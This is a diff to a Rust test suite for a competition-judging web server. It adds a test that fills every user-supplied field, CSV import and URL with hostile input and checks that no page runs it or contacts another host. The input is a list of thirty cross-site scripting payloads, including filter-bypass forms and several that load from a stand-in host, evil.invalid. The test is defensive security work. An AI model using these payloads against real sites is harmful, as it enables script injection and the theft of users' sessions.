@@ -3,9 +3,12 @@
 use std::path::Path;
 use std::process::Stdio;
 
-use serde_json::Value;
+use evenhand_client::types;
+use serde_json::{Value, json};
 
-use crate::stage::{Backend, Stage, skipped};
+use crate::competition::Cup;
+use crate::publication::publish;
+use crate::stage::{Backend, Call, Client, Stage, body, new_key, skipped};
 
 /// Runs a script of tests/browser; what it found, or nothing where there is no browser.
 async fn open(script: &str, arguments: &[&str]) -> Option<Value> {
@@ -68,4 +71,295 @@ async fn an_invitation_is_redeemed_on_a_phone() {
     assert_eq!(said["hash"], "", "the code does not stay in the address");
     assert_eq!(said["wide"], 0, "nothing is cut off");
     assert_eq!(said["complaints"], Value::Array(Vec::new()));
+}
+
+/// What hostile people write where a text is asked for: each would set `pwned`, or ask another host.
+const HOSTILE: [&str; 30] = [
+    "<script>window.pwned=1</script>",
+    "\"><img src=x onerror=window.pwned=1>",
+    "'><svg onload=window.pwned=1>",
+    "</title><script>window.pwned=1</script>",
+    "</script><script>window.pwned=1</script>",
+    "</style><script>window.pwned=1</script>",
+    "<!--<script>window.pwned=1</script>-->",
+    "]]><script xmlns='http://www.w3.org/1999/xhtml'>window.pwned=1</script>",
+    "javascript:window.pwned=1",
+    "<a href='javascript:window.pwned=1' autofocus onfocus=window.pwned=1>x</a>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
+    "<svg></p><style><a id='</style><img src=1 onerror=window.pwned=1>'>",
+    "&lt;img src=x onerror=window.pwned=1&gt;",
+    "&#60;img src=x onerror=window.pwned=1&#62;",
+    "\\u003cimg src=x onerror=window.pwned=1\\u003e",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "${window.pwned=1}",
+    "';window.pwned=1//",
+    "\"-(window.pwned=1)-\"",
+    "<details open ontoggle=window.pwned=1>",
+    "<form action=javascript:window.pwned=1><button autofocus>",
+    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
+    "<b style='animation-name:x' onanimationstart=window.pwned=1>",
+    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
+    "<textarea></textarea><script>window.pwned=1</script>",
+    "<script src=//evil.invalid/?pwned=1></script>",
+    "<style>@import '//evil.invalid/?pwned=1';</style>",
+    "<meta http-equiv=refresh content='0;url=//evil.invalid/?pwned=1'>",
+    "<base href='//evil.invalid/?pwned=1'>",
+];
+
+/// A cell of a table.
+fn cell(text: &str) -> String {
+    format!("\"{}\"", text.replace('"', "\"\""))
+}
+
+/// A competition in which every text that anybody may write is hostile, judged, published and corrected;
+/// a judge and a team of it.
+async fn hostile(stage: &Stage) -> (Cup, Client, Client, types::Publication) {
+    let cup = Cup::open(stage).await;
+    let (organiser, of, round) = (&cup.organiser, &cup.id, &cup.round);
+    let mut texts = HOSTILE.iter().copied().cycle();
+    let mut text = || texts.next().unwrap();
+    let all = |text: &str| json!({ "en": text, "ru": text, "zh": text });
+    let settings = body(json!({
+        "name": text(), "zone": "Asia/Shanghai", "entry_deadline": "2126-12-01T18:00:00",
+    }));
+    organiser
+        .replace_competition(of, Some("*"), &settings)
+        .given()
+        .await;
+    let countries: Vec<Value> = ["CN", "KZ", "RU", "BY"]
+        .iter()
+        .map(|code| json!({ "code": code, "status": "member", "names": all(text()) }))
+        .collect();
+    organiser
+        .replace_countries(of, &body(json!({ "items": countries })))
+        .given()
+        .await;
+    let track = body(json!({ "code": "t<svg onload=window.pwned=1>", "titles": all(text()) }));
+    let track = organiser
+        .create_track(of, &new_key(), &track)
+        .given()
+        .await
+        .id;
+    let renamed =
+        body(json!({ "code": "final<img src=x onerror=window.pwned=1>", "panel_size": 2 }));
+    organiser
+        .replace_round(of, round, Some("*"), &renamed)
+        .given()
+        .await;
+    let criterion = |name: &str, texts: &str| {
+        json!({
+            "criterion": name, "weight": "1", "min": "1", "max": "10", "titles": all(texts),
+            "levels": [{ "mark": "10", "texts": all(texts) }],
+        })
+    };
+    let criteria = [
+        criterion("<img src=x onerror=window.pwned=1>", text()),
+        criterion("pitch", text()),
+    ];
+    let rubric = body(json!({ "criteria": criteria }));
+    organiser
+        .replace_rubric(of, round, Some("*"), &rubric)
+        .given()
+        .await;
+
+    // A team by the API, with everything that teams write.
+    let invitation = json!({ "role": "team", "name": text() });
+    let team = organiser.bring(of, invitation, text()).await;
+    let school = body(json!({ "name": text(), "city": text(), "country": "CN" }));
+    let school = team
+        .create_organisation(of, &new_key(), &school)
+        .given()
+        .await
+        .id;
+    let member = json!({
+        "kind": "member", "name": text(), "citizenships": ["CN"], "age_band": "14_17", "organisation_id": school,
+    });
+    let people = body(json!({ "name": text(), "city": text(), "members": [member] }));
+    team.replace_my_team(of, Some("*"), &people).given().await;
+    let entry = body(json!({
+        "title": text(), "abstract": text(), "track_id": track, "topics": [text(), text()],
+    }));
+    let entry = team.create_my_entry(of, &new_key(), &entry).given().await;
+    team.submit_my_entry(of, &entry.id, Some("*")).given().await;
+    let verdict = body(json!({ "verdict": "eligible", "reason": text() }));
+    organiser
+        .decide_entry(of, &entry.id, &verdict)
+        .given()
+        .await;
+
+    // Each text as the title and the abstract of an entry, and as the name of a judge.
+    let rows = HOSTILE.iter().enumerate().map(|(at, text)| {
+        let title = cell(text);
+        format!(
+            "{},{title},KZ,t<svg onload=window.pwned=1>,{title}\n",
+            cell(&format!("E{at}<img src=x onerror=window.pwned=1>"))
+        )
+    });
+    let rows: String = rows.collect();
+    cup.import(
+        types::ImportTable::Entries,
+        &format!("entry,title,countries,track,abstract\n{rows}"),
+    )
+    .await;
+    let rows = HOSTILE.iter().take(8).enumerate().map(|(at, text)| {
+        format!(
+            "{},{},{},0,20\n",
+            cell(&format!("J{at}'><svg onload=window.pwned=1>")),
+            cell(text),
+            ["RU", "BY"][at % 2]
+        )
+    });
+    let rows: String = rows.collect();
+    cup.import(
+        types::ImportTable::Judges,
+        &format!("judge,name,countries,min_load,max_load\n{rows}"),
+    )
+    .await;
+    let plan = body(json!({
+        "method": "calibrated", "same_country": "exclude", "top": 3, "draws": 200, "seed": 1, "robust": true,
+    }));
+    organiser
+        .replace_scoring_plan(of, round, Some("*"), &plan)
+        .given()
+        .await;
+    cup.assign().await;
+    let mut judges = Vec::new();
+    for (j, judge) in organiser
+        .list_judges(of, None, None)
+        .given()
+        .await
+        .items
+        .iter()
+        .enumerate()
+    {
+        let invitation = json!({ "role": "judge", "judge_id": judge.id });
+        let client = organiser.bring(of, invitation, text()).await;
+        for (a, assignment) in cup.own(&client).await.iter().enumerate() {
+            let mark = |criterion, more: usize| json!({ "criterion": criterion, "score": (1 + (a * 3 + j + more) % 9).to_string() });
+            let sheet = body(json!({
+                "marks": [mark("<img src=x onerror=window.pwned=1>", 0), mark("pitch", 2)], "comment": text(),
+            }));
+            client
+                .submit_my_sheet(of, &assignment.id, Some("*"), &sheet)
+                .given()
+                .await;
+        }
+        judges.push(client);
+    }
+    cup.close().await;
+    let amended = body(json!({
+        "scoring_plan": { "method": "mean", "same_country": "exclude", "top": 3, "draws": 0, "seed": 1 }, "reason": text(),
+    }));
+    organiser
+        .amend_scoring_plan(of, round, &new_key(), &amended)
+        .given()
+        .await;
+    organiser.rank_round(of, round).given().await;
+    let deputy = json!({ "role": "organiser", "name": text() });
+    let deputy = organiser.bring(of, deputy, text()).await;
+    publish(&cup, &deputy, 1).await;
+    let reason = body(json!({ "reason": text() }));
+    let asked = organiser
+        .ask_reopening(of, round, &new_key(), &reason)
+        .given()
+        .await;
+    deputy
+        .agree_to_reopening(of, round, &asked.id)
+        .given()
+        .await;
+    cup.close().await;
+    organiser.rank_round(of, round).given().await;
+    let published = publish(&cup, &deputy, 2).await;
+    (cup, judges.remove(0), team, published)
+}
+
+/// N27: every page that the server shows to people, in a competition whose every text is hostile: nothing
+/// of it runs, nothing is asked for elsewhere, and no policy has anything to stop.
+#[tokio::test(flavor = "multi_thread")]
+async fn hostile_texts_stay_texts() {
+    let stage = Stage::start(Backend::Sqlite).await.unwrap();
+    let (cup, judge, team, published) = hostile(&stage).await;
+    let (of, round, id) = (&cup.id, &cup.round, &published.id);
+    let organiser = cup.organiser.token();
+    let integrator = json!({ "role": "organiser", "name": "I" });
+    let integrator = cup.organiser.bring(of, integrator, HOSTILE[1]).await;
+    let mut pages = Vec::new();
+    let mut add = |name: &str, url: String, token: Option<&str>, shows: bool| {
+        let page = json!({ "name": name, "server": stage.url, "url": url, "token": token });
+        pages.push((page, shows));
+    };
+    for lang in ["en", "ru", "zh"] {
+        add(
+            "organiser",
+            format!("/?lang={lang}#token={organiser}"),
+            None,
+            true,
+        );
+        add(
+            "judge",
+            format!("/?lang={lang}#token={}", judge.token()),
+            None,
+            true,
+        );
+        add(
+            "team",
+            format!("/?lang={lang}#token={}", team.token()),
+            None,
+            true,
+        );
+        add("results", format!("/?lang={lang}&results={of}"), None, true);
+        let report = format!("/api/v1/competitions/{of}/results/{id}/report?lang={lang}");
+        add("published report", report, None, true);
+        let report = format!("/api/v1/competitions/{of}/rounds/{round}/report?lang={lang}");
+        add("report", report, Some(organiser), true);
+    }
+    // What a link may say.
+    let encoded = |text: &str| -> String { text.bytes().map(|b| format!("%{b:02X}")).collect() };
+    for text in HOSTILE {
+        add(
+            "a link to results",
+            format!("/?results={}", encoded(text)),
+            None,
+            false,
+        );
+    }
+    for text in HOSTILE.iter().take(4) {
+        let text = encoded(text);
+        for at in [
+            "/#invite=",
+            "/#token=",
+            "/?lang=",
+            "/problems/",
+            "/docs/guides/en/",
+            "/api/v1/competitions/",
+        ] {
+            add(at, format!("{at}{text}"), None, false);
+        }
+    }
+    for page in ["/docs/guides", "/problems", "/docs/guides/en/teams"] {
+        add(page, page.to_owned(), None, false);
+    }
+    let documents = json!({
+        "name": "documents", "server": stage.url, "token": integrator.token(), "documents": true,
+    });
+    pages.push((documents, true));
+    let list: Vec<&Value> = pages.iter().map(|p| &p.0).collect();
+    let file = tempfile::NamedTempFile::new().unwrap();
+    std::fs::write(file.path(), json!(list).to_string()).unwrap();
+    let Some(said) = open("hostile.mjs", &[file.path().to_str().unwrap()]).await else {
+        return;
+    };
+    let said = said.as_array().unwrap();
+    assert_eq!(said.len(), pages.len());
+    for (said, (page, shows)) in said.iter().zip(&pages) {
+        for harm in ["dialogs", "strangers", "violations", "errors", "active"] {
+            assert_eq!(said[harm], json!([]), "{harm} of {page}: {said}");
+        }
+        assert_eq!(said["ran"], 0, "{page}: {said}");
+        assert!(
+            !shows || said["shown"].as_u64().unwrap() > 0,
+            "{page} shows none of it: {said}"
+        );
+    }
 }
